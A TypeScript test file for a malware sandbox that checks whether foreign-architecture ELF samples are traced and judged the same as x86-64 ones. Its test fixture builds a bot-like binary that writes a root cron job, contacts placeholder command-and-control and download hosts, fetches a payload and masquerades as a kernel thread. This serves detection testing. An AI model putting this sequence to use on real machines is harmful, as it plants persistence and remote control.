// Programs for other processors run in the Linux guest, and the run of each is told as that of the same program for its own.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { analyzeTrace, type Trace } from '@assay/engine'
import { FOREIGN_MACHINES, foreignMachineOf } from '../../src/build/foreign-machines.ts'
import { ELF_MACHINES, type ElfCall, type ElfMachine, writeTinyElf } from '../../src/check/tiny-elf.ts'
import { openTestVm } from './test-vm.ts'

const { vm, skip } = await openTestVm()

const text = (words: string) => ({ bytes: Buffer.from(`${words}\0`) })
const JOB = '* * * * * root /tmp/.x\n'
const GET = 'GET /bins/next HTTP/1.0\r\nHost: files.example\r\n\r\n'

/** Writes a cron job, speaks to an address, fetches, moves itself away, takes the name of a kernel thread. */
function bot(machine: ElfMachine): Buffer {
  const isMips = machine.startsWith('mips')
  const isBigEndian = machine === 'mips' || machine === 'ppc'
  const [create, stream] = isMips ? [0x301, 2] : [0x241, 1]
  const address = (port: number, ip: readonly number[]) => ({
    bytes: Buffer.from([...(isBigEndian ? [0, 2] : [2, 0]), port >> 8, port & 0xff, ...ip, 0, 0, 0, 0, 0, 0, 0, 0]),
  })
  const send = (words: string): ElfCall => ({ name: 'write', args: ['kept', text(words), words.length] })
  const calls: readonly ElfCall[] = [
    { name: 'openat', args: [0, text('/etc/cron.d/update'), create, 0o644], keep: true },
    send(JOB),
    { name: 'close', args: ['kept'] },
    { name: 'socket', args: [2, stream, 0], keep: true },
    { name: 'connect', args: ['kept', address(4_444, [198, 51, 100, 7]), 16] },
    send('hello bot'),
    { name: 'close', args: ['kept'] },
    { name: 'socket', args: [2, stream, 0], keep: true },
    { name: 'connect', args: ['kept', address(80, [203, 0, 113, 5]), 16] },
    send(GET),
    { name: 'read', args: ['kept', { bytes: Buffer.alloc(256) }, 256] },
    { name: 'renameat', args: [0, text('/root/sample'), 0, text('/tmp/.x')] },
    { name: 'prctl', args: [15, text('kworker/0:1')] },
    { name: 'exit', args: [7] },
  ]
  return writeTinyElf(machine, calls)
}

/** What is told of a run, without what differs from one to the next: times, numbers, the bytes of the program itself. */
const toldOf = ({ exit, processes, files, network, system, memory, missed }: Trace) => {
  const plain = (list: readonly object[]) => list.map((event) => ({ ...event, pid: 0, atMs: 0 }))
  const own = { bytes: 0, sha256: '', start: '' }
  return {
    ...{
      exit,
      missed,
      processes: plain(processes),
      network: plain(network),
      system: plain(system),
      memory: plain(memory),
    },
    files: plain(files.map((event) => (event.path === '/root/sample' ? { ...event, ...own } : event))),
  }
}

const runs = new Map<ElfMachine, Promise<Trace>>()
function traceOf(machine: ElfMachine): Promise<Trace> {
  const run = async (): Promise<Trace> => {
    const outcome = await vm?.run({ bytes: bot(machine), fileName: 'sample', observeMs: 60_000 })
    assert.ok(outcome?.status === 'complete', JSON.stringify(outcome).slice(0, 500))
    return outcome.trace
  }
  const known = runs.get(machine) ?? run()
  runs.set(machine, known)
  return known
}

test('each machine has a program of the test', () => {
  for (const { id } of FOREIGN_MACHINES)
    assert.ok(
      ELF_MACHINES.some((machine) => machine === id),
      id,
    )
})

for (const machine of ELF_MACHINES) {
  test(`known by its head: ${machine}`, () => {
    const foreign = foreignMachineOf(bot(machine))
    assert.equal(foreign?.id ?? 'x86-64', machine)
  })
  if (machine === 'x86-64') continue
  test(`told as for x86-64: ${machine}`, { skip }, async () => {
    const own = await traceOf('x86-64')
    const foreign = await traceOf(machine)
    assert.deepEqual(toldOf(foreign), toldOf(own))
    const [judgedOwn, judged] = [own, foreign].map((trace) => analyzeTrace([trace], { path: 'sample' }))
    assert.deepEqual(judged?.verdict?.score, judgedOwn?.verdict?.score)
    assert.equal(judged?.verdict?.label, 'malicious')
    assert.equal(foreign.environment.fidelity, 'compatible')
    assert.match(foreign.notCovered.join(' '), /made executable/)
  })
}
